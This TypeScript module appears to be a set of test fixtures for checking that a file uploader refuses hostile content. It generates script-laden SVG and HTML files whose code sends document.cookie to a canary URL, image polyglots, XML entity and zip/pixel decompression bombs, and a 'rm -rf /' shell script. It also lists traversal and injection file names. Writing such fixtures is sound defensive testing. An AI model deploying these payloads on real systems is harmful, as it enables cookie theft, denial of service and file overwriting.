import { gzipSync } from 'node:zlib';
import { zipSync } from 'fflate';
import sharp from 'sharp';
import { pictureBomb } from './pictures.ts';
import { PNG } from './photos.ts';

/** What each of these files would run, were it ever run: it calls the canary, a server that nobody has a reason to call. */
const script = (canary: string): string =>
  `fetch('${canary}/ran?'+document.cookie).catch(()=>0);document.title='ran';alert(1)`;

const markup = (canary: string): string =>
  `<html><body><img src="${canary}/loaded" onerror="${script(canary)}"><script>${script(canary)}</script></body></html>`;

const drawing = (canary: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${script(canary)}"><script>${script(canary)}</script>` +
  `<image href="${canary}/loaded"/><foreignObject><iframe src="javascript:${script(canary)}"/></foreignObject></svg>`;

/** A document by its content, and a page for whoever does not look. */
export const pageAsDocument = (canary: string): Buffer => Buffer.from(`%PDF-1.7\n${markup(canary)}\n%%EOF`);

/** Files that are no photos by their content, whatever they are called. */
export function noPhotos(canary: string): Record<string, Buffer> {
  const entities = Array.from(
    { length: 9 },
    (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
  ).join('');
  return {
    'a drawing with scripts': Buffer.from(drawing(canary)),
    'a drawing behind a prologue': Buffer.from(`<?xml version="1.0"?>${' '.repeat(9_000)}${drawing(canary)}`),
    'a packed drawing': gzipSync(drawing(canary)),
    'a drawing of a billion words': Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "l">${entities}]><svg xmlns="http://www.w3.org/2000/svg">&l9;</svg>`,
    ),
    'a page': Buffer.from(`<!doctype html>${markup(canary)}`),
    'a page behind a byte order mark': Buffer.from(`\uFEFF${markup(canary)}`),
    'a script': Buffer.from(script(canary)),
    'a program': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]),
    'a shell script': Buffer.from('#!/bin/sh\nrm -rf /\n'),
    'an archive that unpacks to 200 MB': archiveBomb(),
    'packed zeros': gzipSync(Buffer.alloc(4_000_000)),
    'a mail with a page': Buffer.from(`MIME-Version: 1.0\nContent-Type: text/html\n\n${markup(canary)}`),
    'nothing at all': Buffer.alloc(0),
    'one byte': Buffer.from([0xff]),
    'the start of a picture': Buffer.from([0x89, 0x50, 0x4e, 0x47]),
  };
}

function archiveBomb(): Buffer {
  const zeros = new Uint8Array(2_000_000);
  const inner = zipSync(Object.fromEntries(Array.from('0123456789', (name) => [name, zeros])));
  return Buffer.from(zipSync(Object.fromEntries(Array.from('0123456789', (name) => [`${name}.zip`, inner]))));
}

/** Files that are photos by their content, and something else or more than they should be as well. */
export async function twoFacedPhotos(canary: string): Promise<Record<string, Buffer>> {
  const jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#c33' } })
    .jpeg()
    .toBuffer();
  const remark = Buffer.from(markup(canary));
  const comment = Buffer.alloc(4);
  comment.writeUInt16BE(0xfffe);
  comment.writeUInt16BE(remark.length + 2, 2);
  return {
    'a GIF that is a script': gifScript(canary),
    'a JPEG that is a page': Buffer.concat([jpeg.subarray(0, 2), comment, remark, jpeg.subarray(2)]),
    'a JPEG with a page behind it': Buffer.concat([jpeg, remark]),
    'a PNG that is an archive': Buffer.concat([PNG, zipSync({ 'evil.html': new Uint8Array(remark) })]),
    'a PNG with a page behind it': Buffer.concat([PNG, remark]),
    'a PNG that claims 3.6 thousand million pixels': pictureBomb(60_000, 60_000),
    'an AVIF of a few kB that is 100 million pixels': await avifBomb(),
  };
}

/** `GIF89a` and the width, read as a script, are a name and the start of a remark that ends behind the picture. */
function gifScript(canary: string): Buffer {
  return Buffer.concat([
    Buffer.from('GIF89a/*', 'latin1'),
    Buffer.from([1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255]),
    Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b]),
    Buffer.from(`*/=1;${script(canary)}//`, 'latin1'),
  ]);
}

/** The size stands in the header alone: nothing that is refused by it reads further. */
async function avifBomb(): Promise<Buffer> {
  const avif = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#c33' } })
    .avif({ effort: 0 })
    .toBuffer();
  const at = avif.indexOf('ispe', 0, 'latin1');
  avif.writeUInt32BE(10_000, at + 8);
  avif.writeUInt32BE(9_999, at + 12);
  return avif;
}

/** Names that would mislead somebody, or write somewhere else, were they ever used as they are. */
export const HOSTILE_NAMES: readonly string[] = [
  '../../../../etc/cron.d/parley',
  '..\\..\\Windows\\System32\\a.png',
  'photo\u202Egnp.exe',
  'a\u0000b\r\nSet-Cookie: x=1.png',
  `${'x'.repeat(300)}.png`,
  `${'👩‍👩‍👧'.repeat(100)}.png`,
  'CON.png',
  'nul',
  '.htaccess',
  '<img src=x onerror=alert(1)>.png',
  '"; filename="evil.html',
  '\uD800.png',
  '   ',
];
